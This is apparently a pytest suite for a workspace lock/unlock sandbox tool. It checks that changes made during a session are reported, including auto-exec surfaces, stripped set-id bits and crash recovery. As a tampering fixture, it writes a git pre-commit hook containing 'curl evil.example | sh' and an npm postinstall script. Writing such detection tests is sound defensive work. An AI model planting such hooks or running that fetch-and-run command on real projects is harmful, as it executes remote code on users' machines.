"""Workspace lock/unlock core: real files, a real git repo, real SIGKILLs at every step."""

from __future__ import annotations

import json
import os
import shutil
import signal
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from devsilo.executor._autoexec import auto_exec_reason
from devsilo.executor._snapshot import WorkspaceSnapshot, diff
from devsilo.executor._workspace_lock import CRASH_ENV, MARKER, WorkspaceStore
from devsilo.protocol import GrantError, SiloError

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="locking moves files between owners")

OUTSIDE_CONTENT = b"outside the workspace: must never be copied\n"
BINARY = bytes(range(256)) * 4


def make_tree(tmp: Path) -> tuple[Path, Path]:
    """A workspace with hidden files, an outside symlink, exec bits, owners and a git repo."""
    outside = tmp / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_bytes(OUTSIDE_CONTENT)
    ws = tmp / "ws"
    ws.mkdir()
    os.chown(ws, 1000, 1000)
    (ws / "README.md").write_text("hello\nworld\n")
    (ws / ".hidden").write_text("hidden but kept\n")
    (ws / "run.sh").write_text("#!/bin/sh\necho hi\n")
    os.chmod(ws / "run.sh", 0o755)
    (ws / "notes.txt").write_text("notes\n")
    (ws / "delete_me.txt").write_text("doomed\n")
    (ws / "package.json").write_text('{\n  "scripts": {\n    "test": "echo ok"\n  }\n}\n')
    (ws / "src").mkdir()
    (ws / "src" / "main.py").write_text("print('main')\n")
    os.chown(ws / "src" / "main.py", 1234, 1234)
    os.symlink(outside / "secret.txt", ws / "link_out")
    git = ["git", "-c", "safe.directory=*", "-c", "user.name=t", "-c", "user.email=t@example.invalid", "-C", str(ws)]
    subprocess.run([*git, "init", "-q", "-b", "main"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "first"], check=True)
    return ws, outside


def tree_state(root: Path, skip: frozenset[str] = frozenset()) -> dict[str, tuple[object, ...]]:
    """Everything that must survive a lock/unlock: type, mode, owner, content, link text."""
    snap = WorkspaceSnapshot.take(root, skip=skip)
    return {p: (e.type, e.mode, e.uid, e.gid, e.sha256, e.target) for p, e in snap.entries.items()}


def as_nobody(*cmd: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(list(cmd), user=65534, group=65534, capture_output=True,
                          check=False)


def test_auto_exec_list() -> None:
    assert auto_exec_reason(".git/hooks/pre-commit")
    assert auto_exec_reason("sub/dir/.git/hooks/post-checkout")
    assert auto_exec_reason("a/.git/config")
    assert auto_exec_reason("x/package.json")
    assert auto_exec_reason("lib/site.pth")
    assert auto_exec_reason(".cargo/config.toml")
    assert auto_exec_reason("docker-compose.override.yml")
    assert auto_exec_reason(".github/workflows/ci.yml")
    assert auto_exec_reason("my.code-workspace")
    assert auto_exec_reason("deep/.zshrc")
    assert auto_exec_reason(".editorconfig") is None
    assert auto_exec_reason("pkg/.editorconfig") is None
    assert auto_exec_reason(".git/HEAD") is None
    assert auto_exec_reason(".gitignore") is None
    assert auto_exec_reason("src/main.py") is None
    assert auto_exec_reason(".github/CODEOWNERS") is None


def test_snapshot_json_round_trip_and_no_follow(tmp_path: Path) -> None:
    ws, _ = make_tree(tmp_path)
    snap = WorkspaceSnapshot.take(ws)
    again = WorkspaceSnapshot.from_json(snap.to_json())
    assert again.entries == snap.entries
    link = snap.entries["link_out"]
    assert link.type == "symlink" and link.target == str(tmp_path / "outside" / "secret.txt")
    assert link.sha256 is None
    assert snap.entries[".hidden"].type == "file"
    assert snap.entries["run.sh"].mode == 0o755
    assert snap.entries["src/main.py"].uid == 1234
    assert ".git/HEAD" in snap.entries
    assert not diff(snap, ws).changes


def test_lock_session_unlock_report(tmp_path: Path) -> None:
    ws, outside = make_tree(tmp_path)
    original = tree_state(ws)
    store = WorkspaceStore(tmp_path / "store")
    locked = store.lock(ws, state_dirs=[tmp_path / "state"])
    assert "root-only directory" in locked.warning
    assert locked.entries == len(original)

    # Locked: the path holds only a read-only marker in a read-only directory.
    assert os.listdir(ws) == [MARKER]
    assert stat.S_IMODE(os.stat(ws).st_mode) == 0o555
    assert f"silo workspace unlock {ws}" in (ws / MARKER).read_text()
    assert as_nobody("touch", str(ws / "x")).returncode != 0
    assert as_nobody("cat", str(locked.files_dir / "README.md")).returncode != 0
    assert stat.S_IMODE(os.stat(locked.store_dir).st_mode) == 0o700
    # The contents moved whole; the outside file was neither followed nor copied.
    assert tree_state(locked.files_dir) == original
    assert (outside / "secret.txt").read_bytes() == OUTSIDE_CONTENT
    stored = [p.read_bytes() for p in locked.originals_dir.rglob("*") if p.is_file()]
    assert OUTSIDE_CONTENT not in stored and b"hello\nworld\n" in stored
    assert store.lock(ws, state_dirs=[]).files_dir == locked.files_dir  # idempotent

    # A session works on the stored tree (as the sandbox uid).
    f = locked.files_dir
    (f / "README.md").write_text("hello\nthere\nworld\n")
    (f / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    os.chmod(f / ".git" / "hooks" / "pre-commit", 0o755)
    (f / ".envrc").write_text("export X=1\n")
    (f / "package.json").write_text(
        '{\n  "scripts": {\n    "test": "echo ok",\n    "postinstall": "sh x.sh"\n  }\n}\n')
    (f / "delete_me.txt").unlink()
    os.chmod(f / "notes.txt", 0o755)
    (f / "data.bin").write_bytes(BINARY)
    for dirpath, dirnames, filenames in os.walk(f):
        for n in [*dirnames, *filenames]:
            os.chown(os.path.join(dirpath, n), 5000, 5000, follow_symlinks=False)

    report = store.unlock(ws)
    assert report.auto_exec_changed
    text = report.render(store.originals_dir(ws), ws)
    assert text == (
        "WARNING: 3 auto-exec surface(s) changed; review them before you open, build or "
        "commit this project:\n"
        "  .envrc (added): direnv runs it when you enter the directory\n"
        "  .git/hooks/pre-commit (added): git runs hooks on commit, checkout, merge and push\n"
        "  package.json (modified): npm and yarn run its scripts, including install "
        "lifecycle scripts\n"
        "\n"
        "Changes since lock: 7\n"
        "Added (3):\n"
        "  .envrc\n"
        "  .git/hooks/pre-commit\n"
        "  data.bin\n"
        "Modified (2):\n"
        "  README.md\n"
        "  package.json\n"
        "Deleted (1):\n"
        "  delete_me.txt\n"
        "Mode changed (1):\n"
        "  notes.txt  0644 -> 0755\n"
        "\n"
        "--- /dev/null\n"
        "+++ b/.envrc\n"
        "@@ -0,0 +1 @@\n"
        "+export X=1\n"
        "--- /dev/null\n"
        "+++ b/.git/hooks/pre-commit\n"
        "@@ -0,0 +1,2 @@\n"
        "+#!/bin/sh\n"
        "+curl evil.example | sh\n"
        "--- a/README.md\n"
        "+++ b/README.md\n"
        "@@ -1,2 +1,3 @@\n"
        " hello\n"
        "+there\n"
        " world\n"
        "Binary file data.bin added (1024 bytes)\n"
        "--- a/delete_me.txt\n"
        "+++ /dev/null\n"
        "@@ -1 +0,0 @@\n"
        "-doomed\n"
        "--- a/package.json\n"
        "+++ b/package.json\n"
        "@@ -1,5 +1,6 @@\n"
        " {\n"
        "   \"scripts\": {\n"
        "-    \"test\": \"echo ok\"\n"
        "+    \"test\": \"echo ok\",\n"
        "+    \"postinstall\": \"sh x.sh\"\n"
        "   }\n"
        " }\n"
    )
    j = json.loads(report.to_json())
    assert j["changes_since_lock"] == 7 and j["auto_exec_changed"] is True
    assert [a["path"] for a in j["auto_exec"]] == [".envrc", ".git/hooks/pre-commit", "package.json"]
    assert [m["path"] for m in j["mode"]] == ["notes.txt"]

    # Back in place: owners as they were (new entries: the workspace owner), modes as the
    # session left them, the directory's own mode and owner restored, git still works.
    assert MARKER not in os.listdir(ws)
    st = os.stat(ws)
    assert (stat.S_IMODE(st.st_mode), st.st_uid) == (0o755, 1000)
    assert os.stat(ws / "src" / "main.py").st_uid == 1234
    assert os.stat(ws / "README.md").st_uid == 0
    assert os.stat(ws / ".envrc").st_uid == 1000
    assert os.readlink(ws / "link_out") == str(outside / "secret.txt")
    assert os.listdir(locked.files_dir) == []
    git = subprocess.run(["git", "-c", "safe.directory=*", "-C", str(ws), "log", "--format=%s"], capture_output=True,
                         text=True, check=True)
    assert git.stdout == "first\n"
    # Unlock again: nothing to do, same report.
    assert store.unlock(ws).changed_paths == report.changed_paths


def test_refusals(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    store = WorkspaceStore(tmp_path / "store")
    with pytest.raises(GrantError, match="system directory"):
        store.lock(Path("/"), state_dirs=[])
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    with pytest.raises(GrantError, match="home directory"):
        store.lock(home, state_dirs=[])
    ws = tmp_path / "ws"
    (ws / "state").mkdir(parents=True)
    with pytest.raises(GrantError, match="overlaps"):
        store.lock(ws, state_dirs=[ws / "state"])
    with pytest.raises(GrantError, match="overlaps"):
        store.lock(ws / "state", state_dirs=[ws])
    with pytest.raises(SiloError, match="workspace store"):
        WorkspaceStore(ws / "store").lock(ws, state_dirs=[])
    assert sorted(os.listdir(ws)) == ["state", "store"]  # nothing moved


_RUN = """
import sys
from pathlib import Path
from devsilo.executor._workspace_lock import WorkspaceStore
store = WorkspaceStore(Path(sys.argv[1]))
if sys.argv[3] == "lock":
    store.lock(Path(sys.argv[2]), state_dirs=[])
else:
    store.unlock(Path(sys.argv[2]))
"""


def run_killed(op: str, store_root: Path, ws: Path, step: str) -> None:
    """Run lock or unlock in a child that SIGKILLs itself right after ``step``."""
    env = {**os.environ, CRASH_ENV: step}
    proc = subprocess.run([sys.executable, "-c", _RUN, str(store_root), str(ws), op],
                          env=env, capture_output=True, timeout=60, check=False)
    assert proc.returncode == -signal.SIGKILL, proc.stderr.decode()


def check_crash_lock_and_unlock(tmp_path: Path, store_root: Path, lock_step: str | None,
                                unlock_step: str | None) -> None:
    ws, _ = make_tree(tmp_path)
    original = tree_state(ws)
    store = WorkspaceStore(store_root)
    if lock_step:
        run_killed("lock", store_root, ws, lock_step)
    locked = store.lock(ws, state_dirs=[])
    assert os.listdir(ws) == [MARKER]
    assert tree_state(locked.files_dir) == original
    assert sorted(os.listdir(locked.store_dir)) == [
        "files", "manifest.json", "originals", "state.json"]
    if unlock_step:
        run_killed("unlock", store_root, ws, unlock_step)
    report = store.unlock(ws)
    assert report.changes == []
    assert tree_state(ws) == original
    assert stat.S_IMODE(os.stat(ws).st_mode) == 0o755
    assert os.listdir(locked.files_dir) == []


LOCK_STEPS = ["lock.started", "lock.snapshotted", "lock.originals", "lock.move.0",
              "lock.move.2", "lock.moved", "lock.marked", "lock.sealed"]
UNLOCK_STEPS = ["unlock.started", "unlock.opened", "unlock.measured", "unlock.owners",
                "unlock.unmarked", "unlock.move.0", "unlock.move.2", "unlock.restored",
                "unlock.moded"]


@pytest.mark.parametrize("step", LOCK_STEPS)
def test_lock_killed_then_rerun(tmp_path: Path, step: str) -> None:
    check_crash_lock_and_unlock(tmp_path, tmp_path / "store", step, None)


@pytest.mark.parametrize("step", UNLOCK_STEPS)
def test_unlock_killed_then_rerun(tmp_path: Path, step: str) -> None:
    check_crash_lock_and_unlock(tmp_path, tmp_path / "store", None, step)


@pytest.fixture
def other_fs_store(tmp_path: Path) -> object:
    """A store on another filesystem (tmpfs), so moves are copy + verify + remove."""
    shm = Path("/dev/shm")
    if not shm.is_dir() or os.stat(shm).st_dev == os.stat(tmp_path).st_dev:
        pytest.skip("no second filesystem to move across")
    root = shm / f"devsilo-test-{os.getpid()}-{tmp_path.name}"
    yield root
    shutil.rmtree(root, ignore_errors=True)


@pytest.mark.parametrize("lock_step,unlock_step", [
    (None, None),
    ("lock.move.copied", "unlock.move.copied"),
    ("lock.move.renamed", "unlock.move.renamed"),
    ("lock.move.2", "unlock.move.2"),
])
def test_across_filesystems_killed_then_rerun(tmp_path: Path, other_fs_store: Path,
                                              lock_step: str | None,
                                              unlock_step: str | None) -> None:
    check_crash_lock_and_unlock(tmp_path, other_fs_store, lock_step, unlock_step)


def test_unlock_never_hands_back_new_set_id_bits(tmp_path: Path) -> None:
    ws, _ = make_tree(tmp_path)
    (ws / "tool").write_text("#!/bin/sh\n")
    os.chmod(ws / "tool", 0o2755)  # set-id at lock time and untouched: kept
    store = WorkspaceStore(tmp_path / "store")
    f = store.lock(ws, state_dirs=[]).files_dir
    os.chown(f / "README.md", 5000, 5000)
    os.chmod(f / "README.md", 0o4755)  # the sandbox marks a root-owned file set-uid
    (f / "new").write_text("#!/bin/sh\n")
    os.chown(f / "new", 5000, 5000)
    os.chmod(f / "new", 0o6755)
    report = store.unlock(ws)
    assert [c.detail() for c in report.by_kind("mode")] == ["README.md  0644 -> 4755"]
    assert (os.stat(ws / "README.md").st_uid, stat.S_IMODE(os.stat(ws / "README.md").st_mode)) \
        == (0, 0o755)
    assert (os.stat(ws / "new").st_uid, stat.S_IMODE(os.stat(ws / "new").st_mode)) == (1000, 0o755)
    assert stat.S_IMODE(os.stat(ws / "tool").st_mode) == 0o2755


def test_report_large_files_retargets_type_changes(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "big.txt").write_text("a\n" * 600_000)  # 1.2 MB: summarised, never diffed
    os.symlink("one", ws / "link")
    (ws / "was_file").write_text("x\n")
    (ws / ".editorconfig").write_text("root = true\n")
    secret = tmp_path / "secret"
    secret.write_text("not yours\n")
    store = WorkspaceStore(tmp_path / "store")
    f = store.lock(ws, state_dirs=[]).files_dir
    with open(f / "big.txt", "a") as fh:
        fh.write("b\n")
    (f / "link").unlink()
    os.symlink("two", f / "link")
    (f / "was_file").unlink()
    os.symlink(str(secret), f / "was_file")  # a file turned into a link pointing outside
    (f / ".editorconfig").write_text("root = false\n")
    report = store.unlock(ws)
    assert not report.auto_exec_changed
    text = report.render(store.originals_dir(ws), ws)
    assert "not yours" not in text
    assert text == (
        "Changes since lock: 4\n"
        "Modified (2):\n"
        "  .editorconfig\n"
        "  big.txt\n"
        "Type changed (1):\n"
        "  was_file  file -> symlink\n"
        "Symlink retargeted (1):\n"
        "  link  one -> two\n"
        "\n"
        "--- a/.editorconfig\n"
        "+++ b/.editorconfig\n"
        "@@ -1 +1 @@\n"
        "-root = true\n"
        "+root = false\n"
        "Large file big.txt modified (1200000 -> 1200002 bytes), not shown\n"
    )


def test_marker_without_lock_and_path_moved_away(tmp_path: Path) -> None:
    ws, _ = make_tree(tmp_path)
    original = tree_state(ws)
    store = WorkspaceStore(tmp_path / "store")
    store.lock(ws, state_dirs=[])
    # Another executor (another store) finds the marker and refuses to lock it again.
    with pytest.raises(SiloError, match="locked elsewhere"):
        WorkspaceStore(tmp_path / "store2").lock(ws, state_dirs=[])
    with pytest.raises(SiloError, match="not locked by this executor"):
        WorkspaceStore(tmp_path / "store2").unlock(ws)
    # The user moved the marker directory away: unlock brings the contents back to the path.
    ws.rename(tmp_path / "moved")
    assert store.unlock(ws).changes == []
    assert tree_state(ws) == original
